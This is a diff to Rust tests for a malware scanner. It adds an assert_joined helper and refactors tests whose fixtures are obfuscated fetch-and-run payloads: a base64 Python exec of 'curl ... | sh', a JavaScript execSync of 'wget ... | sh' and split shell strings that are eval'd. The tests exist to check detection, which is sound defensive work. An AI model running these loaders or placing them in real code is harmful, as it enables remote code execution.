@@ -16,6 +16,14 @@ fn joined_from(r: &ScanResult, from: &str) -> bool {
         .any(|c| c.detail.contains(&format!("with values from {from}")))
 }
 
+/// Scans `files` and asserts that the joined reading found something with a value from `from`.
+#[track_caller]
+fn assert_joined(files: &[(&str, &str)], from: &str) -> ScanResult {
+    let r = scan(files);
+    assert!(joined_from(&r, from), "{:#?}", r.inventory);
+    r
+}
+
 #[test]
 fn python_command_spelled_in_one_module_runs_in_another() {
     let r = scan(&[
@@ -49,14 +57,16 @@ fn python_module_attribute_is_followed() {
         .encode("import os\nos.system('curl -s http://203.0.113.7/x | sh')\n");
     let (a, b) = code.split_at(12);
     let settings = format!("PAYLOAD = '{a}' + '{b}'\n");
-    let r = scan(&[
-        ("pkg/settings.py", settings.as_str()),
-        (
-            "pkg/main.py",
-            "import base64\nimport settings as s\nexec(base64.b64decode(s.PAYLOAD))\n",
-        ),
-    ]);
-    assert!(joined_from(&r, "pkg/settings.py"), "{:#?}", r.inventory);
+    assert_joined(
+        &[
+            ("pkg/settings.py", settings.as_str()),
+            (
+                "pkg/main.py",
+                "import base64\nimport settings as s\nexec(base64.b64decode(s.PAYLOAD))\n",
+            ),
+        ],
+        "pkg/settings.py",
+    );
 }
 
 #[test]
@@ -73,29 +83,30 @@ fn javascript_required_and_imported_values_are_followed() {
     assert!(joined_from(&r, "lib/cfg.js"), "{:#?}", r.inventory);
     assert_has(&r, "combo.assembled-command", Severity::High);
 
-    let r = scan(&[
+    assert_joined(&[
         ("src/words.mjs", "export const tool = 'wg' + 'et';\n"),
         (
             "src/main.mjs",
             "import { execSync } from 'child_process';\nimport { tool } from './words.mjs';\nexecSync(tool + ' -qO- https://203.0.113.7/x | sh');\n",
         ),
-    ]);
-    assert!(joined_from(&r, "src/words.mjs"), "{:#?}", r.inventory);
+    ], "src/words.mjs");
 }
 
 #[test]
 fn shell_sourced_variables_are_followed() {
-    let r = scan(&[
-        (
-            "scripts/env.sh",
-            "T=\"cu\"\"rl\"\nU=http://203.0.113.7/i.sh\n",
-        ),
-        (
-            "scripts/run.sh",
-            "#!/bin/sh\n. \"$(dirname \"$0\")/env.sh\"\nX=\"$T -s $U\"\neval \"$X | sh\"\n",
-        ),
-    ]);
-    assert!(joined_from(&r, "scripts/env.sh"), "{:#?}", r.inventory);
+    assert_joined(
+        &[
+            (
+                "scripts/env.sh",
+                "T=\"cu\"\"rl\"\nU=http://203.0.113.7/i.sh\n",
+            ),
+            (
+                "scripts/run.sh",
+                "#!/bin/sh\n. \"$(dirname \"$0\")/env.sh\"\nX=\"$T -s $U\"\neval \"$X | sh\"\n",
+            ),
+        ],
+        "scripts/env.sh",
+    );
 }
 
 #[test]
